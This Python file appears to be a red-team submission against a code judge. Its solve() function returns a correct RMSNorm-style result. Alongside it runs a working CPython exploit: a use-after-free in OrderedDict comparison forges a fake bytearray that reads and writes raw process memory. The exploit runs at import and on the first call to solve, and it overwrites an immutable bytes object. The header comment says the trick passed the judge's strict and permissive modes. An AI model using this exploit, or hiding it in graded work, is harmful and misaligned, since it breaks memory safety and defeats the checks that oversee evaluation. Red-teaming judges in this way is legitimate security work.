# Seventh session's red team, round 6 (2026-12-06, CPU judge): passed strict and permissive at
# f850d23 (see the case's why); no runtime layer stops it (docs/judge.md, residual risks).
# OrderedDict == OrderedDict: _odict_keys_equal compares borrowed node keys; the first key's __eq__
# clears both and returns NotImplemented, so the second's reflected __eq__ gets its freed self.
import torch
from collections import OrderedDict, deque

_state = {}
_N = 20
_BS = 16 + 8 * _N
_FAKE = (bytes(16) + (1 << 40).to_bytes(8, 'little') + id(bytearray).to_bytes(8, 'little')
         + (1 << 60).to_bytes(8, 'little') * 2 + bytes(24)).ljust(_BS + 16 - 1, b'\0')


class Big:
    __slots__ = tuple('s%d' % i for i in range(_N))


def _rawmem():
    ph = [0]

    class Killer:
        def __hash__(self):
            return 7

        def __eq__(self, other):
            if ph[0] == 0:
                return True
            a.clear()
            b.clear()
            return NotImplemented

    class Recv(Big):
        __slots__ = ()

        def __hash__(self):
            return 7

        def __eq__(self, other):
            if ph[0] == 0:
                return True
            hold = bytearray(_FAKE)
            _state['w'] = self
            _state['h'] = hold
            return False

    class Val:
        def __eq__(self, other):
            ph[0] = 1
            return True

    a = OrderedDict([(Killer(), Val())])
    b = OrderedDict([(Recv(), Val())])
    a == b
    m = _state.get('w')
    if type(m) is not bytearray:
        raise RuntimeError("no fake object")
    return m


def _prim():
    if 'mem' not in _state:
        _state['mem'] = _rawmem()
    return _state['mem']


def _check(o, cls):
    mem = _prim()
    if not (type(o) is cls):
        raise RuntimeError("wrong class given")
    tp = int.from_bytes(mem[id(o) + 8:id(o) + 16], 'little')
    rc = int.from_bytes(mem[id(o):id(o) + 8], 'little')
    if tp != id(cls):
        raise RuntimeError("type pointer mismatch")
    return [(cls.__name__, hex(id(o)), hex(tp), rc)]


print("RAWMEM import:", _check(_state, dict), _check(1.5, float))


def solve(x, residual, weight):
    if 'done' not in _state:
        _state['done'] = 1
        print("RAWMEM solve:", _check(weight, torch.Tensor), _check(x, torch.Tensor))
        mem = _prim()
        b = bytes(b'immutable!')
        mem[id(b) + 32] = 0x49
        if b[0] != 0x49:
            raise RuntimeError("write failed")
        print("RAWMEM write: immutable bytes now", b)
    s = x.float() + residual.float()
    inv = torch.rsqrt(s.pow(2).mean(-1, keepdim=True) + 1e-5)
    return (s * inv * weight.float()).to(x.dtype)
